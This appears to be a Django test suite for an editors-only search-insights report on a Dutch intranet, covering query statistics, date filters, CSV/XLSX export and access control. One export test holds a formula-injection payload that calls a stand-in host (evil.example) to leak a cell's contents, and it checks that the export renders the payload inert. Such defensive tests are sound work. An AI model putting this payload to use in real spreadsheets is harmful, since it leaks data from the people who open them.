"""The search insights report: top queries, zero results and click-through for editors only."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests.admin_access import assert_refused_by_admin, assert_sent_to_admin_login
from tests.factories.search import QueryStatisticFactory

pytestmark = pytest.mark.django_db

REPORT_URL = "/admin/zoeken/inzichten/"


def days_ago(days):
    return timezone.localdate() - datetime.timedelta(days=days)


def rows(response):
    return [row["query"] for row in response.context["object_list"]]


@pytest.fixture
def statistics(db):
    QueryStatisticFactory(query="training", date=days_ago(1), searches=10, clicks=4)
    QueryStatisticFactory(query="training", date=days_ago(2), searches=5, clicks=2)
    QueryStatisticFactory(query="mindfullness", date=days_ago(1), searches=3, zero_result_searches=3)
    QueryStatisticFactory(query="belbin", date=days_ago(1), searches=7, clicks=7)
    QueryStatisticFactory(query="oud nieuws", date=days_ago(90), searches=50)


def test_editors_group_may_see_insights_and_manage_synonyms():
    permissions = set(
        Group.objects.get(name="Coördinatiepunt").permissions.values_list("codename", flat=True)
    )
    assert {"view_querystatistic", "add_synonym", "change_synonym", "delete_synonym"} <= permissions
    employee_permissions = Group.objects.get(name="Medewerkers").permissions.values_list(
        "codename", flat=True
    )
    assert "view_querystatistic" not in employee_permissions


def test_report_lists_top_queries_of_the_last_30_days(editor_client, statistics):
    response = editor_client.get(REPORT_URL)
    assert response.status_code == 200
    assert rows(response) == ["training", "belbin", "mindfullness"]
    training = response.context["object_list"][0]
    assert (training["total_searches"], training["total_clicks"]) == (15, 6)
    assert round(training["click_through"]) == 40
    html = response.content.decode()
    assert "Zoekinzichten" in html
    assert "40%" in html


def test_a_query_that_was_only_clicked_has_no_click_through(editor_client, statistics):
    # A results page opened before midnight and clicked after it: a click without a search.
    QueryStatisticFactory(query="verlof", date=days_ago(0), searches=0, clicks=1)

    response = editor_client.get(REPORT_URL)

    assert response.status_code == 200
    verlof = next(row for row in response.context["object_list"] if row["query"] == "verlof")
    assert (verlof["total_searches"], verlof["total_clicks"], verlof["click_through"]) == (0, 1, None)


def test_report_over_a_chosen_period(editor_client, statistics):
    response = editor_client.get(
        REPORT_URL, {"start": days_ago(100).isoformat(), "end": days_ago(60).isoformat()}
    )
    assert rows(response) == ["oud nieuws"]


def test_zero_result_queries_with_one_step_fixes(editor_client, statistics):
    response = editor_client.get(REPORT_URL, {"zero_results": "on"})
    assert rows(response) == ["mindfullness"]
    html = response.content.decode()
    synonym_url = reverse("search_synonym:add") + "?terms=mindfullness"
    promotion_url = reverse("search_insights:add_promotion") + "?q=mindfullness"
    assert f'href="{synonym_url}"' in html
    assert f'href="{promotion_url}"' in html


def test_synonym_form_arrives_filled_with_the_query(editor_client):
    response = editor_client.get(reverse("search_synonym:add"), {"terms": "mindfullness"})
    assert response.status_code == 200
    assert response.context["form"].initial["terms"] == "mindfullness, "


def test_promotion_form_arrives_filled_with_the_query(editor_client):
    response = editor_client.get(reverse("search_insights:add_promotion"), {"q": "mindfullness"})
    assert response.status_code == 200
    assert 'value="mindfullness"' in response.content.decode()


def test_end_before_start_is_refused_in_dutch(editor_client, statistics):
    response = editor_client.get(
        REPORT_URL, {"start": days_ago(1).isoformat(), "end": days_ago(5).isoformat()}
    )
    assert response.status_code == 200
    assert "De einddatum moet op of na de begindatum liggen." in response.content.decode()


def test_start_in_the_future_is_refused_in_dutch(editor_client):
    tomorrow = (timezone.localdate() + datetime.timedelta(days=1)).isoformat()
    response = editor_client.get(REPORT_URL, {"start": tomorrow})
    assert "De begindatum kan niet in de toekomst liggen." in response.content.decode()


def test_report_exports_to_csv(editor_client, statistics):
    response = editor_client.get(REPORT_URL, {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Zoekopdracht", "Zoekacties", "Zonder resultaten", "Klikken", "Doorklikratio (%)"]
    assert ["training", "15", "0", "6", "40,0"] in rows


def test_queries_typed_as_formulas_are_exported_as_inert_text(editor_client):
    attack = '=HYPERLINK("https://evil.example/?d="&B3,"Klik hier")'
    QueryStatisticFactory(query=attack, searches=9, clicks=3)
    QueryStatisticFactory(query="-1 graden", searches=2)

    xlsx = editor_client.get(REPORT_URL, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    query, searches, *_rest, click_through = next(sheet.iter_rows(min_row=2))
    assert (query.value, query.data_type, query.quotePrefix) == (attack, "s", True)
    assert (searches.value, searches.data_type) == (9, "n")
    assert click_through.value == pytest.approx(33.3)
    assert sheet["A3"].value == "-1 graden" and sheet["A3"].data_type == "s"

    response = editor_client.get(REPORT_URL, {"export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == ["'" + attack, "9", "0", "3", "33,3"]
    assert rows[2][0] == "'-1 graden"


def test_employee_cannot_open_the_report(employee_client, statistics):
    response = employee_client.get(REPORT_URL)
    assert_sent_to_admin_login(response, REPORT_URL)
    assert "training" not in response.content.decode()


def test_editor_without_the_permission_cannot_open_the_report(client, editor, statistics):
    editors = Group.objects.get(name="Coördinatiepunt")
    editors.permissions.remove(*editors.permissions.filter(codename="view_querystatistic"))
    client.force_login(editor)
    assert_refused_by_admin(client.get(REPORT_URL))


def test_anonymous_visitor_is_sent_to_login(client, statistics):
    response = client.get(REPORT_URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("people:login"))


def test_editors_find_search_tools_in_the_admin_menu(editor_client):
    html = editor_client.get("/admin/").content.decode()
    for label in ["Zoekinzichten", "Synoniemen", "Aanbevolen resultaten"]:
        assert label in html


def test_synonym_list_shows_the_groups(editor_client):
    from tests.factories.search import SynonymFactory

    SynonymFactory(terms="Awb, Algemene wet bestuursrecht")
    response = editor_client.get(reverse("search_synonym:index"))
    assert response.status_code == 200
    assert "Awb, Algemene wet bestuursrecht" in response.content.decode()


def test_report_includes_searches_not_yet_written(editor_client, employee, make_article):
    from django.test import Client

    make_article("Trainingen", "Een training.")
    employee_client = Client()
    employee_client.force_login(employee)
    employee_client.get("/zoeken/", {"q": "training"})
    employee_client.get("/zoeken/", {"q": "training"})
    response = editor_client.get(REPORT_URL)
    training = next(row for row in response.context["object_list"] if row["query"] == "training")
    assert training["total_searches"] == 2


def test_the_filter_chips_speak_dutch_and_leave_out_an_unticked_checkbox(editor_client, statistics):
    chips = editor_client.get(REPORT_URL, {"start": days_ago(100).isoformat()}).context["active_filters"]
    assert [chip.field_label for chip in chips] == ["Van"]

    chips = editor_client.get(REPORT_URL, {"zero_results": "on"}).context["active_filters"]
    assert [(str(chip.field_label), chip.value) for chip in chips] == [
        ("Alleen zoekopdrachten zonder resultaten", "ja")
    ]
